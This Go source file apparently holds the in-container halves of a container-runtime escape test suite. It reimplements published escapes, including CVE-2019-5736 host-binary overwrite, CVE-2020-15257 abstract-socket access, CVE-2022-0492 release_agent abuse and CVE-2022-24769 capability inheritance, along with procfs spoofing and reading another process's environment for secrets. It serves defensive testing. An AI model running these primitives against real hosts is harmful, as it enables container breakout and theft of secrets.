// Package attack is what containers of the escape tests execute: the inner halves
// of published attacks. Each prints what it got, one fact a line, and fails only by
// what it prints.
package attack

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Commands are the attacks, by name.
var Commands = map[string]func(args []string){
	"overwrite":    attackOverwrite,
	"descriptors":  attackDescriptors,
	"abstract":     attackAbstract,
	"releaseagent": attackReleaseAgent,
	"fakeproc":     attackFakeProc,
	"masked":       attackMasked,
	"status":       attackStatus,
	"become":       attackBecome,
	"mountinfo": func([]string) {
		b, err := os.ReadFile("/proc/self/mountinfo")
		fmt.Println(string(b), err)
	},
	"ioctl": func(args []string) { // of a device as /dev/random
		f, err := os.Open(args[0])
		if err != nil {
			fmt.Println("open:", err)
			return
		}
		_, err = unix.IoctlGetInt(int(f.Fd()), unix.RNDGETENTCNT)
		fmt.Println("ioctl:", err)
	},
	"mknod": func(args []string) {
		fmt.Println("char:", unix.Mknod(args[0]+"/c", unix.S_IFCHR|0o666, int(unix.Mkdev(1, 5))))
		_, err := os.Open(args[0] + "/c") // /dev/zero: would be any other device
		fmt.Println("open:", err)
		fmt.Println("file:", os.WriteFile(args[0]+"/f", nil, 0o600))
		fmt.Println("move:", os.Mkdir(args[0]+"/d", 0o700), os.Rename(args[0]+"/f", args[0]+"/d/f"))
	},
	"whiteout": func([]string) {
		fmt.Println("node:", unix.Mknod("/dev/shm/c", unix.S_IFCHR|0o600, 0))
		fmt.Println("file:", os.WriteFile("/dev/shm/f", nil, 0o600))
		fmt.Println("move:", errors.Join(os.Mkdir("/dev/shm/d", 0o700), os.Rename("/dev/shm/f", "/dev/shm/d/f")))
		f, err := os.OpenFile("/dev/pts/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
		if err == nil {
			_, err = unix.IoctlGetInt(int(f.Fd()), unix.TIOCGPTN)
		}
		fmt.Println("tty ioctl:", err)
	},
	"open": func(args []string) {
		f, err := os.OpenFile(args[0], os.O_WRONLY, 0)
		if err == nil {
			err = f.Close()
		}
		label, _ := os.ReadFile("/proc/self/attr/current")
		fmt.Println("open:", err, strings.Trim(string(label), "\x00\n"))
	},
	"facts": attackFacts,
	"spy":   attackSpy,
	"pwd": func([]string) {
		d, err := os.Getwd()
		_, serr := os.Stat("../../../../bin/work")
		fmt.Println(d, err, serr)
	},
}

// attackOverwrite is CVE-2019-5736: it looks for a process that is not made of
// this program, opens its executable through procfs and tries to write to it, with
// an argument until the process has ended: nobody writes to what is executed.
func attackOverwrite(args []string) {
	defer fmt.Println("done")
	var self, st unix.Stat_t
	_ = unix.Stat("/proc/self/exe", &self)
	for end := time.Now().Add(3 * time.Second); time.Now().Before(end); {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range dirs {
			fd, err := unix.Open(dir+"/exe", unix.O_PATH, 0)
			if err != nil {
				if !errors.Is(err, unix.ENOENT) {
					fmt.Println("open:", err)
					return
				}
				continue
			}
			if unix.Fstat(fd, &st) == nil && (st.Ino != self.Ino || st.Dev != self.Dev) {
				fmt.Println("found an executable")
				overwrite(fmt.Sprintf("/proc/self/fd/%d", fd), len(args) > 0)
				return
			}
			_ = unix.Close(fd)
		}
	}
	fmt.Println("found nothing")
}

// overwrite tries to write to an executable, and says whether anybody could: it is
// sealed memory, or on a mount that is read-only.
func overwrite(name string, wait bool) {
	fixed := false
	if r, err := unix.Open(name, unix.O_RDONLY, 0); err == nil {
		var fs unix.Statfs_t
		seals, err := unix.FcntlInt(uintptr(r), unix.F_GET_SEALS, 0)
		fixed = err == nil && seals&unix.F_SEAL_WRITE != 0 || unix.Fstatfs(r, &fs) == nil && fs.Flags&unix.ST_RDONLY != 0
	}
	fmt.Println("fixed:", fixed)
	for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
		w, err := unix.Open(name, flags, 0)
		for end := time.Now().Add(20 * time.Second); wait && err == unix.ETXTBSY && time.Now().Before(end); {
			time.Sleep(time.Millisecond)
			w, err = unix.Open(name, flags, 0)
		}
		if err == nil {
			_, err = unix.Write(w, []byte("#!/evil"))
		}
		fmt.Println("overwrite:", err)
	}
}

// attackDescriptors lists the open descriptors and where they lead.
func attackDescriptors([]string) {
	for fd := range 256 {
		if to, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); err == nil {
			var st unix.Stat_t
			_ = unix.Fstat(fd, &st)
			fmt.Println(fd, to, st.Mode&unix.S_IFMT == unix.S_IFDIR)
		}
	}
}

// attackAbstract is CVE-2020-15257: it connects to an abstract socket.
func attackAbstract(args []string) {
	c, err := net.DialTimeout("unix", "@"+args[0], time.Second)
	if err == nil {
		_ = c.Close()
	}
	fmt.Println("host's socket:", err)
	// Sockets of the container's own stay usable.
	l, err := net.Listen("unix", "@"+args[0]+"-inside")
	if err == nil {
		c, err = net.DialTimeout("unix", l.Addr().String(), time.Second)
	}
	if err == nil {
		_ = c.Close()
	}
	fmt.Println("own socket:", err)
}

// attackReleaseAgent is CVE-2022-0492: it writes to every release_agent there
// is, makes a group of v1 that is to call it, then makes namespaces of its own and mounts the v1 hierarchies once more.
func attackReleaseAgent(args []string) {
	agents, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	for _, a := range append(agents, "/sys/fs/cgroup/release_agent") {
		fmt.Println("write:", os.WriteFile(a, []byte("/evil"), 0))
	}
	hierarchies, _ := filepath.Glob("/sys/fs/cgroup/*")
	for _, dir := range hierarchies {
		var fs unix.Statfs_t
		if unix.Statfs(dir, &fs) == nil && fs.Type == unix.CGROUP_SUPER_MAGIC {
			fmt.Println("group:", os.Mkdir(dir+"/evil", 0o755))
			fmt.Println("notify:", os.WriteFile(dir+"/notify_on_release", []byte("1"), 0))
		}
	}
	if len(args) == 0 {
		cmd := exec.Command("/proc/self/exe", "releaseagent", "inner")
		cmd.Args[0] = "work"
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP,
			UidMappings: []syscall.SysProcIDMap{{Size: 1}}, GidMappings: []syscall.SysProcIDMap{{Size: 1}}}
		out, err := cmd.CombinedOutput()
		fmt.Println("namespaces:", err)
		fmt.Print(string(out))
	}
	for _, name := range []string{"rdma", "memory", "pids", "devices", "misc", "none,name=x"} {
		dir := "/tmp/" + strings.NewReplacer(",", "-", "=", "-").Replace(name)
		_ = os.MkdirAll(dir, 0o755)
		err := unix.Mount("cgroup", dir, "cgroup", 0, name)
		fmt.Println("mount:", err)
		if err == nil {
			fmt.Println("write:", os.WriteFile(dir+"/release_agent", []byte("/evil"), 0))
		}
	}
}

// attackFakeProc covers procfs with files that only look like it, and waits.
func attackFakeProc([]string) {
	err := unix.Mount("tmpfs", "/proc", "tmpfs", 0, "")
	for _, dir := range []string{"/proc/self/attr/apparmor", "/proc/thread-self/attr/apparmor", "/proc/sys/net/ipv4"} {
		err = errors.Join(err, os.MkdirAll(dir, 0o777))
	}
	for _, f := range Fakes {
		err = errors.Join(err, os.WriteFile(f, nil, 0o666))
	}
	fmt.Println("ready", err)
	_ = unix.Pause()
}

// Fakes are the files that labels and parameters are written to.
var Fakes = []string{
	"/proc/self/attr/exec", "/proc/self/attr/apparmor/exec", "/proc/thread-self/attr/exec",
	"/proc/thread-self/attr/apparmor/exec", "/proc/sys/net/ipv4/ip_forward",
}

// attackMasked says how the masked and read-only paths of procfs look, wherever
// procfs is: in the given places and at /proc. It opens each once: names may
// change meanwhile.
func attackMasked(places []string) {
	for _, dir := range append(places, "/proc") {
		fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			continue
		}
		var fs unix.Statfs_t
		if unix.Fstatfs(fd, &fs) != nil || fs.Type != unix.PROC_SUPER_MAGIC {
			continue
		}
		var st unix.Stat_t
		err = unix.Fstatat(fd, "interrupts", &st, 0)
		fmt.Println(dir, "interrupts is null:", err == nil && st.Rdev == unix.Mkdev(1, 3))
		sys, err := unix.Openat(fd, "sys", unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err == nil {
			err = unix.Fstatfs(sys, &fs)
		}
		fmt.Println(dir, "sys is read-only procfs:", err == nil && fs.Type == unix.PROC_SUPER_MAGIC && fs.Flags&unix.ST_RDONLY != 0)
	}
	fmt.Println("looked")
}

// attackStatus prints its ids and capabilities.
func attackStatus([]string) {
	b, _ := os.ReadFile("/proc/self/status")
	for line := range bytes.Lines(b) {
		if bytes.HasPrefix(line, []byte("Cap")) || bytes.HasPrefix(line, []byte("Uid")) || bytes.HasPrefix(line, []byte("Gid")) {
			fmt.Print(string(line))
		}
	}
}

// attackFacts prints what layers of isolation come to.
func attackFacts([]string) {
	for _, ns := range []string{"pid", "ipc", "uts", "net", "mnt", "cgroup", "user"} {
		to, _ := os.Readlink("/proc/self/ns/" + ns)
		fmt.Println(ns, to)
	}
	b, _ := os.ReadFile("/proc/self/status")
	for line := range strings.Lines(string(b)) {
		key, value, _ := strings.Cut(line, ":")
		if name, ok := map[string]string{"CapBnd": "caps", "NoNewPrivs": "nnp", "Seccomp": "seccomp"}[key]; ok {
			fmt.Println(name, strings.TrimSpace(value))
		}
	}
	users, _ := os.ReadFile("/proc/self/uid_map")
	fmt.Println("users", strings.Join(strings.Fields(string(users)), " "))
	var st unix.Stat_t
	_ = unix.Stat("/proc/interrupts", &st)
	var fs unix.Statfs_t
	_ = unix.Statfs("/proc/sys", &fs)
	fmt.Println("masked", st.Rdev == unix.Mkdev(1, 3))
	fmt.Println("sys", fs.Flags&unix.ST_RDONLY != 0)
	// In a process of its own: it changes what it is in.
	cmd := exec.Command("/proc/self/exe", "exit", "0")
	cmd.Args[0] = "work"
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER}
	fmt.Println("unshare", cmd.Run())
}

// attackSpy waits for another process and reads its environment, where secrets
// are.
func attackSpy([]string) {
	fmt.Println("spying")
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range dirs {
			line, err := os.ReadFile(dir + "/cmdline")
			if err != nil || !strings.HasPrefix(string(line), "/bin/work\x00wait") {
				continue
			}
			b, err := os.ReadFile(dir + "/environ")
			fmt.Println("secret:", strings.Contains(string(b), "SECRET"), err)
			return
		}
	}
}

// attackBecome executes a program as an ordinary user: CVE-2022-24769, where
// file capabilities that are inheritable meet a process's that are, too.
func attackBecome(args []string) {
	uid, _ := strconv.Atoi(args[1])
	cmd := exec.Command(args[0], "status")
	cmd.Args[0] = "work"
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(uid)}}
	out, err := cmd.CombinedOutput()
	fmt.Println(string(out), err)
}

// Inheritable is the extended attribute of a file whose capabilities are in its
// inheritable and not in its permitted set (struct vfs_cap_data, version 2).
func Inheritable(set uint64) []byte {
	b := binary.LittleEndian.AppendUint32(nil, 0x02000001) // effective
	for i := range 2 {
		b = binary.LittleEndian.AppendUint32(b, 0)
		b = binary.LittleEndian.AppendUint32(b, uint32(set>>(32*i)))
	}
	return b
}
